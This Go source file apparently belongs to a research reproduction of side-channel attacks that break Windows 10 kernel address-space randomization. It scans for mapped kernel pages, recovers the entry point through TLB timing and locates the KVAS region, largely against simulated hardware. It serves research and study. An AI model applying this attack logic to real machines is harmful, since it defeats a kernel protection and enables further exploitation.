package core

import (
	"fmt"

	"repro/internal/fault"
	"repro/internal/paging"
	"repro/internal/winkernel"
)

// WindowsResult is the outcome of the Windows 10 kernel scan (§IV-G).
type WindowsResult struct {
	// RegionBase is the base of the recovered kernel image region (the
	// first slot of the run of consecutive mapped 2 MiB pages).
	RegionBase paging.VirtAddr
	// RunSlots is the detected run length in 2 MiB slots.
	RunSlots    int
	ProbeCycles uint64
	TotalCycles uint64
}

// WindowsKernel derandomizes the Windows 10 kernel region (§IV-G): probe
// the 2^18 possible 2 MiB slots with the page-table attack and report the
// first run of exactly runLen consecutive mapped slots (the kernel image's
// five consecutive 2 MiB pages). Driver images produce other runs; the
// run-length signature disambiguates.
func WindowsKernel(p *Prober, runLen int) (WindowsResult, error) {
	var res WindowsResult
	if err := p.M.Fire(fault.Probe); err != nil {
		return res, err
	}
	start := p.M.RDTSC()
	probeStart := p.M.RDTSC()
	mapped, _ := p.ScanMapped(winkernel.RegionBase, int(winkernel.Slots), paging.Page2M)
	res.ProbeCycles = p.M.RDTSC() - probeStart

	run := 0
	var runStart paging.VirtAddr
	for slot := 0; slot <= int(winkernel.Slots); slot++ {
		if slot < int(winkernel.Slots) && mapped[slot] {
			if run == 0 {
				runStart = winkernel.RegionBase + paging.VirtAddr(uint64(slot)<<21)
			}
			run++
			continue
		}
		if run == runLen {
			res.RegionBase = runStart
			res.RunSlots = run
			break
		}
		run = 0
	}
	res.TotalCycles = p.M.RDTSC() - start + KernelBaseResult{}.calibrationCycles(p)
	if res.RegionBase == 0 {
		return res, fmt.Errorf("core: no %d-slot kernel region found", runLen)
	}
	return res, nil
}

// EntryPointResult is the outcome of the residual-entropy break (§IV-G's
// proposed combination of the region scan with the TLB attack).
type EntryPointResult struct {
	// EntryVA is the recovered kernel entry page (4 KiB granularity).
	EntryVA     paging.VirtAddr
	TotalCycles uint64
}

// WindowsEntryPoint breaks the remaining 9 bits of Windows KASLR entropy
// after WindowsKernel has found the image region: the entry point sits on
// a random 4 KiB boundary of the first image slot, whose text is 4 KiB
// mapped. For each candidate page, evict the TLB, make the victim enter
// the kernel (trigger), and probe — only the entry path's pages come back
// TLB-hot. trigger is the attacker-controllable kernel entry (any system
// call).
func WindowsEntryPoint(p *Prober, regionBase paging.VirtAddr, trigger func()) (EntryPointResult, error) {
	start := p.M.RDTSC()
	var res EntryPointResult
	pages := paging.Page2M / paging.Page4K
	for pg := 0; pg < pages; pg++ {
		va := regionBase + paging.VirtAddr(uint64(pg)<<12)
		p.M.EvictTLB()
		trigger()
		if pr := p.ProbeTLB(va); pr.Fast {
			res.EntryVA = va
			break
		}
	}
	res.TotalCycles = p.M.RDTSC() - start
	if res.EntryVA == 0 {
		return res, fmt.Errorf("core: no TLB-hot entry page found in the first image slot")
	}
	return res, nil
}

// KVASResult is the outcome of the KVAS-region scan (§IV-G, Windows KPTI).
type KVASResult struct {
	// KVASVA is the recovered shadow-transition region base.
	KVASVA paging.VirtAddr
	// Base is the kernel base derived from the constant KVAS offset.
	Base        paging.VirtAddr
	ProbeCycles uint64
	TotalCycles uint64
}

// KVASBreak derandomizes KASLR on KVAS-enabled Windows (§IV-G): scan the
// kernel region at 4 KiB granularity for the run of exactly
// winkernel.KVASPages consecutive mapped pages (KiSystemCall64Shadow), then
// subtract the build-constant offset. scanSlots limits the scan to the
// first N 2 MiB slots (the paper scans the whole region in ~8 s; tests use
// a narrower window).
func KVASBreak(p *Prober, scanSlots int) (KVASResult, error) {
	start := p.M.RDTSC()
	var res KVASResult
	probeStart := p.M.RDTSC()

	if scanSlots <= 0 || scanSlots > int(winkernel.Slots) {
		scanSlots = int(winkernel.Slots)
	}
	pages := scanSlots * (paging.Page2M / paging.Page4K)
	mapped, _ := p.ScanMapped(winkernel.RegionBase, pages, paging.Page4K)
	res.ProbeCycles = p.M.RDTSC() - probeStart

	run := 0
	var runStart paging.VirtAddr
	for i := 0; i <= pages; i++ {
		if i < pages && mapped[i] {
			if run == 0 {
				runStart = winkernel.RegionBase + paging.VirtAddr(uint64(i)<<12)
			}
			run++
			continue
		}
		if run == winkernel.KVASPages {
			res.KVASVA = runStart
			break
		}
		run = 0
	}
	res.TotalCycles = p.M.RDTSC() - start + KernelBaseResult{}.calibrationCycles(p)
	if res.KVASVA == 0 {
		return res, fmt.Errorf("core: KVAS region not found in %d slots", scanSlots)
	}
	if uint64(res.KVASVA) < winkernel.KVASOffset {
		return res, fmt.Errorf("core: KVAS region below expected offset")
	}
	res.Base = res.KVASVA - paging.VirtAddr(winkernel.KVASOffset)
	return res, nil
}
